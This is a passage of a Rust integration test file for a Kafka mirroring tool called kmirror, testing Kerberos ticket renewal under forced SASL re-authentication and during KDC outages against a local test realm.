/// cache alone (`kvno`, no keytab).
fn new_connection_possible(rig: &KrbRig, ccache: &Path) -> Result<(), String> {
    let out = Command::new("kvno")
        .envs(rig.kdc.env())
        .arg("-c")
        .arg(format!("FILE:{}", ccache.display()))
        .arg(rig.kdc.full_name("kafka/localhost"))
        .output()
        .map_err(|e| format!("running kvno: {e}"))?;
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

/// The clock-skew allowance of the renewal tests' realm: small, so that a
/// ticket past its end is refused within seconds instead of MIT's 300.
const RENEWAL_CLOCKSKEW: Duration = Duration::from_secs(5);
/// How long the renewal tests' listeners let a SASL session live before
/// the connection must re-authenticate (KIP-368).
const RENEWAL_SESSION: Duration = Duration::from_secs(10);

/// A realm whose tickets live `lifetime`, with [`RENEWAL_CLOCKSKEW`].
fn renewal_kdc(lifetime: Duration) -> KdcOptions {
    KdcOptions {
        ticket_lifetime: lifetime,
        renew_lifetime: Duration::from_secs(3600),
        clockskew: Some(RENEWAL_CLOCKSKEW),
        ..Default::default()
    }
}

/// One successful GSSAPI authentication of the mirror in a listener's
/// evidence log.
#[derive(Debug)]
struct MirrorAuth {
    ts_ms: u64,
    reauthentication: bool,
    ticket_expiry_ms: u64,
}

/// The listener's successful GSSAPI authentications of `principal`, in
/// log order.
fn mirror_auths(listener: &Listener, principal: &str) -> Vec<MirrorAuth> {
    listener
        .events()
        .unwrap()
        .into_iter()
        .filter_map(|e| match e {
            AuditEvent::Authentication {
                ts_ms,
                mechanism,
                principal: Some(p),
                success: true,
                reauthentication,
                ticket_expiry_ms,
                ..
            } if mechanism == "GSSAPI" && p == principal => Some(MirrorAuth {
                ts_ms,
                reauthentication,
                ticket_expiry_ms: ticket_expiry_ms.expect("GSSAPI records the ticket expiry"),
            }),
            _ => None,
        })
        .collect()
}

/// The proof that renewal, not the KDC's leniency, kept `side` working:
/// after the first ticket's expiry, the mirror re-authenticated existing
/// connections with service tickets that expire later than that first
/// ticket, i.e. tickets issued from a renewed TGT. No accepted ticket was
/// past its end (1 s: the log's expiry has whole-second precision).
/// Returns how many such re-authentications there were.
fn assert_reauthenticated_after_expiry(side: &str, listener: &Listener, principal: &str) -> usize {
    let auths = mirror_auths(listener, principal);
    let first = auths
        .first()
        .unwrap_or_else(|| panic!("{side}: the mirror never authenticated"));
    let first_expiry = first.ticket_expiry_ms;
    for a in &auths {
        assert!(
            a.ticket_expiry_ms + 1000 >= a.ts_ms,
            "{side}: an expired ticket was accepted: {a:?}"
        );
    }
    let renewed = auths
        .iter()
        .filter(|a| {
            a.reauthentication && a.ts_ms > first_expiry && a.ticket_expiry_ms > first_expiry
        })
        .count();
    assert!(
        renewed > 0,
        "{side}: no re-authentication with a renewed ticket after the first ticket expired at {first_expiry}: {auths:#?}"
    );
    renewed
}

/// Mirrors steady traffic for `traffic` with tickets of `lifetime`, the
/// listeners forcing re-authentication every [`RENEWAL_SESSION`] (and at
/// each service ticket's end) and a [`RENEWAL_CLOCKSKEW`] allowance, so an
/// expired ticket is really refused. kmirror must renew in-process (never
/// a `kinit`), keep every connection authenticated with renewed tickets
/// after each original ticket expired, never fail an authentication, and
/// lose nothing. With `probe`, kmirror's ticket cache is also checked
/// (`kvno`) every lifetime, past the first ticket's end.
fn renewal_under_forced_reauthentication(lifetime: Duration, traffic: Duration, probe: bool) {
    let rig = KrbRig::start_reauth(renewal_kdc(lifetime), 2, RENEWAL_SESSION);
    let w = Workload {
        records: usize::MAX / 2,
        keys: 100,
        value_size: 100,
        ..Default::default()
    };
    let tmp = rig.dir.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let jaas = rig.jaas("mm", &rig.mm_full(), &rig.kdc.standard_keytab(MIRRORMAKER));
    let (c, p) = rig.properties("mm", &[]);
    let jaas_arg = jaas.display().to_string();
    let mut km = rig.spawn(
        &args_with(&c, &p, &rig.topic, &["--jaas", &jaas_arg]),
        &[("TMPDIR", tmp.display().to_string())],
        "km.log",
    );
    let start = std::time::Instant::now();
    let mut produced = 0;
    traffic_step(&rig, &w, &mut produced, 500, &km);
    let ccache = kmirror_ccache(&tmp);
    let mut next_probe = start + lifetime + RENEWAL_CLOCKSKEW * 2;
    let mut probes = 0;
    while start.elapsed() < traffic {
        traffic_step(&rig, &w, &mut produced, 500, &km);
        if probe && std::time::Instant::now() >= next_probe {
            new_connection_possible(&rig, &ccache).unwrap_or_else(|e| {
                panic!(
                    "after {:?}: kmirror's ticket cannot authenticate: {e}\n{}",
                    start.elapsed(),
                    km.output()
                )
            });
            probes += 1;
            next_probe += lifetime;
        }
    }
    assert!(
        km.child.try_wait().unwrap().is_none(),
        "kmirror stopped:\n{}",
        km.output()
    );
    let status = km.stop();
    let out = km.output();
    assert!(status.success(), "exit {status}:\n{out}");
    let renewals = out.matches("Kerberos ticket renewed").count();
    // One renewal per 0.6 lifetime; one fewer for start-up slack.
    let expected =
        ((traffic.as_secs_f64() / (lifetime.as_secs_f64() * 0.6)) as usize).saturating_sub(1);
    assert!(
        renewals >= expected.max(1),
        "{renewals} renewals in {traffic:?} of {lifetime:?} tickets, expected {expected}:\n{out}"
    );
    assert!(!out.contains("renewal failed"), "{out}");
    assert!(
        !out.to_ascii_lowercase().contains("authentication fail"),
        "{out}"
    );
    let mm = rig.mm_full();
    let source_reauths = assert_reauthenticated_after_expiry("source", &rig.source.listener, &mm);
    let target_reauths = assert_reauthenticated_after_expiry("target", &rig.target.listener, &mm);
    eprintln!(
        "{traffic:?} with {lifetime:?} tickets: {produced} records, {renewals} renewals, \
         re-authentications with renewed tickets after the first expired: \
         source {source_reauths}, target {target_reauths}; {probes} probes"
    );
    let source = cluster::read_all(
        &rig.source.admin_conn(),
        &rig.topic,
        produced,
        Duration::from_millis(500),
        Duration::from_secs(120),
    )
    .unwrap();
    assert_eq!(source.len(), produced);
    let report = rig.check(&source, produced);
    eprintln!("{report}");
    // Also: every GSSAPI authentication succeeded, as the mirror only.
    rig.assert_only_principal_authenticated(&mm);
}

/// Fast tier: 40 s tickets (kmirror renews at 24 s, 16 s before the end,
/// longer than a session), 5 s clock skew, sessions of 10 s, traffic for
/// three ticket lifetimes. Without renewal, re-authentication after 40 s
/// fails (GSSAPI: "Ticket expired") and mirroring stalls; without forced
/// re-authentication the connections opened at start stay up and no
/// renewed ticket is ever presented on them.
#[test]
fn forty_second_tickets_renewed_under_forced_reauthentication() {
    renewal_under_forced_reauthentication(Duration::from_secs(40), Duration::from_secs(120), false);
}

/// Long tier: tickets of two minutes, traffic for seven, with the fast
/// test's clock skew and forced re-authentication, and kmirror's cache
/// probed with `kvno` every two minutes past the first ticket's end.
#[test]
#[ignore = "long tier: 7 minutes of traffic with 2-minute tickets"]
fn two_minute_tickets_seven_minutes_of_traffic() {
    renewal_under_forced_reauthentication(
        Duration::from_secs(120),
        Duration::from_secs(7 * 60),
        true,
    );
}

/// The KDC goes away twice. For 90 s, shorter than the 2-minute lifetime
/// but spanning the renewal: renewals fail with warnings, mirroring goes
/// on, and the next renewal after the KDC returns succeeds. Then for longer
/// than the lifetime: the ticket expires and kmirror stops cleanly with a
/// message that says so (non-zero exit, committed offsets consistent). A
/// restart after the KDC returns completes with nothing missing.
#[test]
#[ignore = "long tier: a 90 s KDC outage, then one longer than a 2-minute ticket"]
fn kdc_outages_shorter_and_longer_than_a_ticket_lifetime() {
    let mut rig = KrbRig::start(short_lived_kdc(), 2);
    let w = Workload {
        records: usize::MAX / 2,
        keys: 100,
        value_size: 100,
        ..Default::default()
    };
    let jaas = rig.jaas("mm", &rig.mm_full(), &rig.kdc.standard_keytab(MIRRORMAKER));
    let (c, p) = rig.properties("mm", &[]);
    let jaas_arg = jaas.display().to_string();
    let args = args_with(&c, &p, &rig.topic, &["--jaas", &jaas_arg]);
    let mut km = rig.spawn(&args, &[], "km-1.log");
    let mut produced = 0;
    traffic_step(&rig, &w, &mut produced, 500, &km);

    // Outage 1: 90 s (the deliberate outage duration), with traffic.
    rig.kdc.stop();
    let outage_end = std::time::Instant::now() + Duration::from_secs(90);
    let before = produced;
    while std::time::Instant::now() < outage_end {
        traffic_step(&rig, &w, &mut produced, 500, &km);
    }
    assert!(produced > before, "no traffic during the outage");
    let out = km.output();
    assert!(
        out.contains("Kerberos ticket renewal failed") && out.contains("cannot be reached"),
        "no renewal warning during the outage:\n{out}"
    );
    rig.kdc.start_again().unwrap();
    let renewed = await_condition(Duration::from_secs(60), || {
        km.output()
            .contains("Kerberos ticket renewed")
            .then_some(())
    });
    assert!(
        renewed.is_some(),
        "not renewed after the KDC returned:\n{}",
        km.output()
    );
    traffic_step(&rig, &w, &mut produced, 500, &km);

    // Outage 2: until the ticket expires; kmirror must stop by itself.
    rig.kdc.stop();
    let deadline = std::time::Instant::now() + Duration::from_secs(200);
    let status = loop {
        cluster::produce_range(
            &rig.source.admin_conn(),
            &rig.topic,
            &w,
            produced..produced + 200,
        )
        .unwrap();
        produced += 200;
        if let Some(s) = km.wait_timeout(Duration::from_secs(2)) {
            break s;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "kmirror kept running with an expired ticket:\n{}",
            km.output()
        );
    };
    let out = km.output();
    assert_eq!(status.code(), Some(1), "{out}");
    assert!(
        out.contains("expired") && out.contains("could not be renewed"),
        "{out}"
    );
    assert!(out.contains(&rig.mm_full()), "{out}");
    let source = cluster::read_all(
        &rig.source.admin_conn(),
        &rig.topic,
        produced,
        Duration::from_millis(500),
        Duration::from_secs(120),
    )
    .unwrap();
    let target = cluster::read_all(
        &rig.target.admin_conn(),
        &rig.topic,
        0,
        Duration::from_secs(1),
        Duration::from_secs(120),
    )
    .unwrap();
    let committed =
        cluster::committed_offsets(&rig.source.admin_conn(), &rig.group, &rig.topic).unwrap();
    checker::check_committed(&source, &target, &committed).unwrap();

    // The KDC is back: a restart finishes the job.
    rig.kdc.start_again().unwrap();
    let km = rig.spawn(&args, &[], "km-2.log");
    traffic_step(&rig, &w, &mut produced, 500, &km);
    let report = finish_and_check(&rig, km, produced);
    eprintln!("KDC outages: {report}");
}
